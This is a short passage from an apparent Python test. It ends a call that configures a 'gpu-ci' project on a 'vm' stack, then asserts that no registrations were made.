            main, project="gpu-ci", stack="vm", config=flat(values), registrations=registered
        )
    assert registered == []
